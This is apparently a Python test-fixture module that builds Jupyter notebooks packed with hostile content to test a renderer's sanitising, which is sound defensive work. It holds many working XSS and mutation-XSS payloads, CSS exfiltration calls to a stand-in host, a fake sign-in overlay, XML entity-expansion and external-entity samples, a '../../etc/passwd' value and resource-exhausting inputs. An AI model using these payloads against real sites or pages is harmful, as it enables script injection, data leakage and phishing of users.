"""
Notebooks that try to run a script in the reader's browser, or to make it ask another server for something.

``SENTINEL`` stands for that server; ``RUN`` is a script that shows that it has run, in every way that it can.
"""

from __future__ import annotations

import base64
import json
from typing import Any

SENTINEL = "http://sentinel.invalid"
RUN = (
    f"window.__ran=1;document.documentElement.dataset.ran=1;new Image().src='{SENTINEL}/ran';top.postMessage('ran','*')"
)
_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
_B64 = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()


def html(text: str) -> dict[str, Any]:
    return code(display({"text/html": text, "text/plain": "x"}))


def markdown(text: str, **cell: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": text, **cell}


def display(data: Any, **output: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": data, **output}


def code(*outputs: Any, source: str = "x", **cell: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": source,
        "outputs": list(outputs),
        **cell,
    }


def stream(text: Any, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def svg(text: str) -> dict[str, Any]:
    return code(display({"image/svg+xml": text, "text/plain": "x"}))


def error(ename: Any, evalue: Any, traceback: Any) -> dict[str, Any]:
    return code({"output_type": "error", "ename": ename, "evalue": evalue, "traceback": traceback})


# Put into HTML outputs and into Markdown, which passes HTML on.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src='{SENTINEL}/a.js'></script>",
    "script-module": f"<script type=module>import '{SENTINEL}/m.js';{RUN}</script>",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script-case": f"<ScRiPt\n>{RUN}</sCrIpT >",
    "script-unclosed": f"<script>{RUN}//",
    "img-onerror": f'<img src=x onerror="{RUN}">',
    "img-src": f"<img src='{SENTINEL}/i.png'>",
    "img-srcset": f"<img srcset='{SENTINEL}/s.png 1x' src='data:image/png;base64,{_PNG}'>",
    "img-lowsrc": f"<img lowsrc='{SENTINEL}/l.png' dynsrc='{SENTINEL}/d.png'>",
    "img-slash": f'<img/src/onerror="{RUN}">',
    "img-quote": f'<img src="x" title=\'"><script>{RUN}</script>\'>',
    "picture": f"<picture><source srcset='{SENTINEL}/p.webp'><img src=x></picture>",
    "body-onload": f'<body onload="{RUN}">',
    "div-events": f'<div onmouseover="{RUN}" onfocus="{RUN}" tabindex=1 autofocus>x</div>',
    "details-toggle": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "input-autofocus": f'<input autofocus onfocus="{RUN}">',
    "animation-event": f"<style>@keyframes k{{}}</style><p style='animation:k 1s' onanimationstart=\"{RUN}\">x</p>",
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "video": f"<video src='{SENTINEL}/v.mp4' poster='{SENTINEL}/v.png' autoplay onloadstart=\"{RUN}\"></video>",
    "audio": f"<audio src='{SENTINEL}/a.mp3' autoplay onerror=\"{RUN}\"></audio>",
    "a-javascript": f'<a href="javascript:{RUN}" id=go>x</a>',
    "a-javascript-tab": f'<a href="java&#9;script:{RUN}">x</a>',
    "a-vbscript": "<a href='vbscript:msgbox(1)'>x</a>",
    "a-data": f"<a href='data:text/html;base64,{_B64}'>x</a>",
    "a-ping": f"<a href='#x' ping='{SENTINEL}/ping'>x</a>",
    "iframe": f"<iframe src='{SENTINEL}/frame'></iframe>",
    "iframe-srcdoc": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "frameset": f"<frameset><frame src='{SENTINEL}/f'></frameset>",
    "object": f"<object data='{SENTINEL}/o.swf'></object><embed src='{SENTINEL}/e'>",
    "object-data": f"<object data='data:text/html;base64,{_B64}'></object>",
    "form": f"<form action='{SENTINEL}/form'><input name=a value=b><button autofocus>x</button></form>",
    "formaction": f'<button formaction="javascript:{RUN}" autofocus>x</button>',
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={SENTINEL}/meta'>",
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "base": f"<base href='{SENTINEL}/'><a href='x'>x</a><img src='rel.png'>",
    "link-stylesheet": f"<link rel=stylesheet href='{SENTINEL}/c.css'>",
    "link-prefetch": f"<link rel=prefetch href='{SENTINEL}/p'><link rel=dns-prefetch href='//{SENTINEL[7:]}'><link rel=preconnect href='{SENTINEL}'>",
    "link-icon": f"<link rel=icon href='{SENTINEL}/favicon.ico'>",
    "link-modulepreload": f"<link rel=modulepreload href='{SENTINEL}/m.js'>",
    "style-import": f"<style>@import '{SENTINEL}/i.css';</style>",
    "style-background": f"<style>body{{background:url({SENTINEL}/b.png)}}</style>",
    "style-exfiltration": f"<style>section[id^='c']{{background:url({SENTINEL}/leak)}}</style><p class=x>x</p>",
    "style-font": f"<style>@font-face{{font-family:f;src:url({SENTINEL}/f.woff)}}p{{font-family:f}}</style><p>x</p>",
    "style-attribute": f"<p style=\"background-image:url('{SENTINEL}/a.png');list-style:url({SENTINEL}/l.png)\">x</p>",
    "style-cursor": f"<p style='cursor:url({SENTINEL}/c.cur),auto;border-image:url({SENTINEL}/bi.png)'>x</p>",
    "style-escape": f"<p style='background:u\\72l({SENTINEL}/e.png)'>x</p>",
    "style-expression": f'<p style="width:expression({RUN})">x</p>',
    "style-cover": "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh;background-color:red;z-index:9999'>sign in again</p>",
    "style-close": f"<style></style><script>{RUN}</script></style>",
    "table-background": f"<table background='{SENTINEL}/t.png'><tr><td background='{SENTINEL}/td.png'>x</td></tr></table>",
    "svg-inline": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "svg-use": f"<svg><use href='{SENTINEL}/u.svg#a'/><image href='{SENTINEL}/i.png'/></svg>",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"/></foreignObject></svg>',
    "math-mxss": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "math-href": f'<math href="javascript:{RUN}"><mtext>x</mtext></math>',
    "noscript-mxss": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    "svg-style-mxss": f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    "form-mxss": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "template": f'<template><img src=x onerror="{RUN}"></template>',
    "xmp": f"<xmp><p title=\"</xmp><img src=x onerror='{RUN}'>\"></xmp>",
    "textarea": f"<textarea></textarea><script>{RUN}</script></textarea>",
    "comment": f'<!--><img src=x onerror="{RUN}">--><!-- --!><img src=x onerror="{RUN}">',
    "cdata": f'<![CDATA[<img src=x onerror="{RUN}">]]>',
    "processing": f"<?xml-stylesheet href='{SENTINEL}/x.css'?><?php {RUN} ?>",
    "null-byte": f'<scr\x00ipt>{RUN}</scr\x00ipt><img src=x on\x00error="{RUN}">',
    "attribute-break": f"</div></section></main><script>{RUN}</script>",
    "page-end": f"</body></html><script>{RUN}</script>",
    "clobber": "<img name=body><form id=cell-1><input name=attributes></form><a id=top name=top></a>",
    "shadow": f'<div><template shadowrootmode=open><img src=x onerror="{RUN}"></template></div>',
    "portal": f"<portal src='{SENTINEL}/portal'></portal><fencedframe src='{SENTINEL}/ff'></fencedframe>",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{SENTINEL}/spec"]}}]}}</script>',
    "styler-url": f"<style>#T_a_row0_col0 {{ background-image: url({SENTINEL}/sty.png); color: red }}</style><table id=T_a><td id=T_a_row0_col0>x",
    "styler-import": f"<style>@import url({SENTINEL}/a.css); @import '{SENTINEL}/b.css' screen; #T_a {{ color: red }}</style><p id=T_a>x</p>",
    "styler-escape": f"<style>#T_a {{ color: red; background: \\75\\72\\6c({SENTINEL}/esc.png); b\\61ckground: u\\000072l('{SENTINEL}/esc2.png') }}</style><p id=T_a>x</p>",
    "styler-variable": f"<style>:root {{ --u: url({SENTINEL}/var.png) }} #T_a {{ background: var(--u); list-style: var(--u) }}</style><p id=T_a>x</p>",
    "styler-image-set": f"<style>#T_a {{ background: image-set('{SENTINEL}/is.png' 1x); content: url({SENTINEL}/c.png); mask: url({SENTINEL}/m.svg#a); filter: url({SENTINEL}/f.svg#a) }}</style><p id=T_a>x</p>",
    "styler-close": f"<style>#T_a[title='</style><script>{RUN}</script>'] {{ color: red }} #T_a::after {{ content: '</style><img src=x onerror={RUN}>' }}</style><p id=T_a>x</p>",
    "styler-comment": f"<style><!-- #T_a {{ color: red }} --> /* </style><script>{RUN}</script> */</style><p id=T_a>x</p>",
    "styler-nested": f"<style>#T_a {{ color: red; & p {{ background: url({SENTINEL}/n.png) }} @media all {{ p {{ background: url({SENTINEL}/n2.png) }} }} }}</style><p id=T_a>x</p>",
    "styler-media": f"<style>@media all {{ p {{ background: url({SENTINEL}/m1.png) }} }} @supports (color: red) {{ p {{ background: url({SENTINEL}/m2.png) }} }} @layer a {{ p {{ background: url({SENTINEL}/m3.png) }} }}</style><p>x</p>",
    "styler-behaviour": f"<style>p {{ behavior: url({SENTINEL}/b.htc); -moz-binding: url({SENTINEL}/x.xml#a); color: expression({RUN}) }}</style><p>x</p>",
    "styler-visited": f"<style>a:visited {{ background: url({SENTINEL}/v.png); color: red }}</style><a href='{SENTINEL}/seen'>x</a>",
    "styler-cover": "<style>div { position: fixed; inset: 0; z-index: 9999; background: red } ~ .nb-cell { display: none } body, html, :root { display: none }</style><div>sign in again</div>",
    "styler-attribute": f"<style>input[value^='a'] {{ background: url({SENTINEL}/leak?a) }}</style><input type=checkbox value=abc>",
    "styler-svg": f"<svg><style>@import url({SENTINEL}/ss.css); rect {{ fill: url({SENTINEL}/sf.svg#a) }}</style><rect width=9 height=9 /></svg>",
    "svg-deep-foreign": f'<svg><g><foreignObject><math><mtext><img src=x onerror="{RUN}"></mtext></math><body onload="{RUN}"></foreignObject></g></svg>',
    "svg-image-svg": f"<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'%3E%3Cimage href='{SENTINEL}/si.png'/%3E%3C/svg%3E\">",
    "svg-animate-href": f'<svg><a id=a><text y=9>x</text><set attributeName=href to="javascript:{RUN}" /><animate attributeName="xlink:href" values="javascript:{RUN}" begin=0s /></a><use href="data:image/svg+xml,<svg onload={RUN}>" /></svg>',
    "svg-filter": f"<svg><filter id=f><feImage href='{SENTINEL}/fe.png'/></filter><rect width=9 height=9 filter='url(#f)' mask='url({SENTINEL}/mask.svg#m)'/></svg>",
    "svg-title-mxss": f'<svg><title><style><img title="</style><img src=x onerror={RUN}>"></style></title><desc><img src=x onerror="{RUN}"></desc></svg>',
    "math-annotation": f'<math><semantics><annotation-xml encoding="text/html"><img src=x onerror="{RUN}"><style><img title="</style><img src=x onerror={RUN}>"></style></annotation-xml></semantics></math>',
    "math-malignmark": f'<math><mi><malignmark><style><!--</style><img src=x onerror="{RUN}">--></style></malignmark></mi></math>',
    "math-nested": f'<math><mtext><svg><foreignObject><img src=x onerror="{RUN}"></foreignObject></svg></mtext><maction actiontype="statusline#{SENTINEL}/st" xlink:href="javascript:{RUN}">x</maction></math>',
    "math-style": f"<math><mi style='background:url({SENTINEL}/ms.png)' mathbackground='url({SENTINEL}/mb.png)'>x</mi></math>",
    "clobber-own": "<p id=cell-1 class='nb-cell nb-failed'>x</p><img id=nb-out-0 name=body><a id=failed name=cell-0>x</a><form id=getElementById><input name=documentElement></form>",
    "label-steal": f'<label for=leave onclick="{RUN}">x</label><input type=checkbox id=leave autofocus onfocus="{RUN}"><input type=image src={SENTINEL}/ii.png>',
    "progress-events": f'<progress value=1 max=2 onfocus="{RUN}" tabindex=0 autofocus></progress><meter value=x style="background:url({SENTINEL}/me.png)"></meter>',
    "media-sources": f"<video><source src='{SENTINEL}/v1' onerror=\"{RUN}\"><track src='{SENTINEL}/t.vtt' default></video><audio src='javascript:{RUN}'></audio>",
    "link-mark": f'<a href="#{SENTINEL}/x">x</a><a href="airflow-nbjobs-link#javascript:{RUN}">x</a><p title="airflow-nbjobs-theme">x</p>',
    "insert-mark": f"\ue0f00\ue0f1<p title='\ue0f00\ue0f1\"><script>{RUN}</script>'>x</p>",
    "is-attribute": f'<p is=x-y popover onbeforetoggle="{RUN}">x</p>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "utf7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "huge-attribute": f"<p title='{'a' * 200_000}' onclick=\"{RUN}\">x</p>",
    "deep": "<div>" * 3000 + f'<img src=x onerror="{RUN}">',
}

CELLS: dict[str, list[Any]] = {f"html-{name}": [html(text)] for name, text in MARKUP.items()}
CELLS |= {
    f"markdown-{name}": [markdown(text)] for name, text in MARKUP.items() if name not in ("deep", "huge-attribute")
}
CELLS |= {
    "markdown-link-javascript": [markdown(f"[x](javascript:{RUN}) [y](<javascript:{RUN}>)")],
    "markdown-image": [markdown(f"![x]({SENTINEL}/md.png) ![y](attachment:a.png)")],
    "markdown-reference": [markdown(f"![x][r]\n\n[r]: {SENTINEL}/ref.png")],
    "markdown-autolink": [markdown(f"<{SENTINEL}/auto> {SENTINEL}/bare")],
    "markdown-code-fence": [markdown(f'```html"><script>{RUN}</script>\n<script>{RUN}</script>\n```')],
    "markdown-heading": [markdown(f'# <img src=x onerror="{RUN}">\n\n## [x](javascript:{RUN})')],
    "markdown-math": [
        markdown(
            f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\unicode{{<script>{RUN}</script>}}$ $<img src=x onerror={RUN}>$"
        )
    ],
    "markdown-math-attributes": [
        markdown(
            f'![$\\text{{" onerror={RUN} x="}}$]({SENTINEL}/ma.png "$\\text{{x"><script>{RUN}</script>}}$") [$x$]({SENTINEL}/$y$)'
        )
    ],
    "markdown-math-text": [
        markdown(
            f"$\\text{{</mtext></math><img src=x onerror={RUN}>}}$ $\\mbox{{<script>{RUN}</script>}}$ $\\style{{background:url({SENTINEL}/mst.png)}}{{x}}$"
            f" $\\color{{url({SENTINEL}/mc.png)}}{{x}}$ $\\unicode{{x3c}}img src=x onerror={RUN}>$ $\\hspace{{-9999px}}x$ $&lt;script&gt;$"
        )
    ],
    "markdown-math-deep": [markdown("$" + "{" * 1900 + "}" * 1900 + "$ " + "$x$ " * 5000)],
    "markdown-math-unclosed": [markdown("$" + "\\begin{a}" * 300 + "$1 " * 3000)],
    "markdown-mermaid": [markdown(f"```mermaid\n</pre><script>{RUN}</script>\n```")],
    "markdown-attachment": [
        markdown(
            "![x](attachment:a.png)", attachments={"a.png": {'image/png" onerror="' + RUN: _PNG, "text/html": _B64}}
        )
    ],
    "markdown-attachment-html": [markdown("![x](attachment:a.png)", attachments={"a.png": {"text/html": _B64}})],
    "output-markdown": [code(display({"text/markdown": f"<script>{RUN}</script>\n![x]({SENTINEL}/om.png)"}))],
    "output-javascript": [code(display({"application/javascript": RUN, "text/plain": "x"}))],
    "output-latex": [code(display({"text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$<script>{RUN}</script>"}))],
    "output-json": [code(display({"application/json": {"a": f"</script><script>{RUN}</script>"}}))],
    "output-widget": [
        code(
            display(
                {"application/vnd.jupyter.widget-view+json": {"model_id": f"<script>{RUN}</script>"}, "text/plain": "w"}
            )
        )
    ],
    "styles-many": [html("<style>" + "#T_a { color: red } " * 20_000 + "</style><p id=T_a>x</p>")],
    "styles-deep": [
        html("<style>" + "a { b: " + "(" * 4000 + "</style><p style='width: " + "calc(" * 4000 + "'>x</p>")
    ],
    "svg-deep": [svg("<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 20_000)],
    "svg-laughs": [
        svg(
            "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'>"
            + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
            + "]><svg>&j;</svg>"
        )
    ],
    "sizes-hostile": [
        code(
            display(
                {"image/png": _PNG},
                metadata={
                    "image/png": {"width": f'1" onerror="{RUN}', "height": 1e308, "alt": f'"><script>{RUN}</script>'}
                },
            )
        )
    ],
    "output-plotly": [
        code(display({"application/vnd.plotly.v1+json": {"data": [{"text": f"<script>{RUN}</script>"}]}}))
    ],
    "output-unknown-type": [code(display({f'text/x-"><script>{RUN}</script>': "x"}))],
    "output-mermaid": [code(display({"text/vnd.mermaid": f"</pre><script>{RUN}</script>"}))],
    "image-png-quote": [code(display({"image/png": f'x" onerror="{RUN}'}))],
    "image-png-html": [code(display({"image/png": f'{_PNG}"><script>{RUN}</script>'}))],
    "image-jpeg-url": [code(display({"image/jpeg": f"{SENTINEL}/i.jpg"}))],
    "image-alt": [code(display({"image/png": _PNG, "text/plain": f'"><script>{RUN}</script>'}))],
    "svg-script": [svg(f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>")],
    "svg-onload": [
        svg(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><image href='{SENTINEL}/i.png'/></svg>")
    ],
    "svg-external": [
        svg(
            f"<?xml-stylesheet href='{SENTINEL}/s.css'?><svg xmlns='http://www.w3.org/2000/svg'><style>@import url({SENTINEL}/i.css);"
            f"rect{{fill:url({SENTINEL}/f.svg#a)}}</style><rect width='9' height='9'/></svg>"
        )
    ],
    "svg-entity": [
        svg(
            f"<!DOCTYPE svg [<!ENTITY x SYSTEM '{SENTINEL}/x'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"
        )
    ],
    "svg-foreign-object": [
        svg(
            f"<svg xmlns='http://www.w3.org/2000/svg'><foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></body></foreignObject></svg>"
        )
    ],
    "stream-html": [code(stream(f"<script>{RUN}</script>"))],
    "stream-ansi": [code(stream(f'\x1b[31m<script>{RUN}</script>\x1b[0m\x1b[38;2;1;2;3"onclick={RUN}mx'))],
    "stream-osc-link": [code(stream(f"\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07"))],
    "stream-stderr": [code(stream(f'<img src=x onerror="{RUN}">', "stderr"))],
    "stream-name": [code(stream("x", f'"><script>{RUN}</script>'))],
    "stream-list": [code(stream(["<scr", "ipt>", RUN, "</scr", "ipt>"]))],
    "stream-bidi": [code(stream("\u202eevil\u202c \u2066x\u2069"))],
    "error-html": [error(f"<script>{RUN}</script>", f'<img src=x onerror="{RUN}">', [f"<script>{RUN}</script>"])],
    "error-not-text": [error({"a": 1}, ["x"], {"not": "a list"})],
    "source-html": [code(source=f"</pre></div><script>{RUN}</script>")],
    "source-raw": [
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": f"<script>{RUN}</script>"}
    ],
    "tags-html": [code(source="x", metadata={"tags": [f'"><script>{RUN}</script>', "papermill"]})],
    "execution-count-html": [code(source="x", execution_count=f"<script>{RUN}</script>")],
    "id-html": [code(source="x", id=f'"><script>{RUN}</script>')],
    "duration-html": [
        code(
            source="x",
            metadata={"papermill": {"duration": f'1;"><script>{RUN}</script>', "start_time": [], "end_time": {}}},
        )
    ],
    "duration-infinite": [code(source="x", metadata={"papermill": {"duration": 1e308}})],
    "outputs-nonsense": [
        code({"output_type": "display_data", "data": {"text/html": {"a": 1}, "image/png": 7, "text/plain": None}})
    ],
    "outputs-empty": [code({}, {"output_type": "what"}, {"output_type": "display_data", "data": {}})],
    "surrogates": [
        code(stream("\ud800 lone \udfff"), display({"text/html": "<p title='\ud83d'>\udc00</p>"})),
        markdown("# \ud800"),
    ],
    "controls": [code(stream("".join(map(chr, range(32))) + "\x7f\x80\x9b31m\u2028\u2029\ufeff\ufffe"))],
    "giant-line": [code(stream("x" * 3_000_000))],
    "giant-lines": [code(stream("line\n" * 300_000))],
    "giant-html": [html("<p>" + "x" * 2_000_000 + "</p>")],
    "giant-table": [html("<table>" + "<tr><td>1</td><td>2</td></tr>" * 12_000 + "</table>")],
    "many-outputs": [code(*[display({"text/plain": str(number)}) for number in range(5000)])],
    "many-cells": [code(source=f"x{number}") for number in range(4000)],
    "nested-quotes": [markdown("> " * 500 + f"<script>{RUN}</script>")],
    "nested-lists": [markdown("\n".join("  " * depth + "- x" for depth in range(120)))],
    "pathological-emphasis": [markdown("*a **b " * 2000)],
    "pathological-links": [markdown("[" * 3000 + "](" * 3000)],
    "pathological-table": [markdown("|" * 4000 + "\n" + "|-" * 4000)],
}


def notebook(cells: list[Any], **metadata: Any) -> str:
    """Return the file's text; lone surrogates are escaped, as JSON can."""
    return json.dumps(
        {"nbformat": 4, "nbformat_minor": 4, "metadata": metadata, "cells": [*cells, code(source="last = 1")]}
    )


_WIDGETS = (
    "HTML",
    "HTMLMath",
    "Label",
    "VBox",
    "Tab",
    "FloatProgress",
    "Image",
    "Output",
    "Dropdown",
    "IntSlider",
    "Text",
)


def widgets(state: dict[str, Any]) -> str:
    """Return a notebook in which widgets of every kind were saved with one state."""
    models = {
        f"m{place}": {
            "model_name": f"{name}Model",
            "state": state | {"outputs": [html(state.get("value"))["outputs"][0]]},
            "buffers": [{"path": ["value"], "encoding": "base64", "data": _PNG}],
        }
        for place, name in enumerate(_WIDGETS)
    }
    views = [
        code(display({"application/vnd.jupyter.widget-view+json": {"model_id": name}, "text/plain": "w"}))
        for name in models
    ]
    return notebook(views, widgets={"application/vnd.jupyter.widget-state+json": {"state": models}})


NOTEBOOKS: dict[str, str] = {name: notebook(cells) for name, cells in CELLS.items()}
NOTEBOOKS |= {
    "kernel-html": notebook(
        [], kernelspec={"name": f'"><script>{RUN}</script>'}, language_info={"name": f"<script>{RUN}</script>"}
    ),
    "language-nonsense": notebook(
        [], language_info={"name": "../../etc/passwd", "pygments_lexer": f"<script>{RUN}</script>"}
    ),
    "widgets-html": widgets(
        {"value": MARKUP["script"] + MARKUP["img-onerror"] + MARKUP["styler-close"] + MARKUP["styler-url"]}
    ),
    "widgets-text": widgets(
        {
            "value": f"<script>{RUN}</script>",
            "description": f'"><img src=x onerror="{RUN}">',
            "bar_style": f'x"><script>{RUN}</script>',
            "format": f'png" onerror="{RUN}',
            "titles": [f"<script>{RUN}</script>"],
            "_options_labels": [f"<script>{RUN}</script>"],
            "index": 0,
        }
    ),
    "widgets-endless": widgets({"children": ["IPY_MODEL_m0", "IPY_MODEL_m1", "IPY_MODEL_m2", "IPY_MODEL_m3"]}),
    "widgets-nonsense": widgets(
        {"value": {"a": [1]}, "children": {"a": 1}, "titles": 3, "index": [[]], "min": "x", "max": float("inf")}
    ),
    "title-html": notebook([], title=f"</title><script>{RUN}</script>"),
}
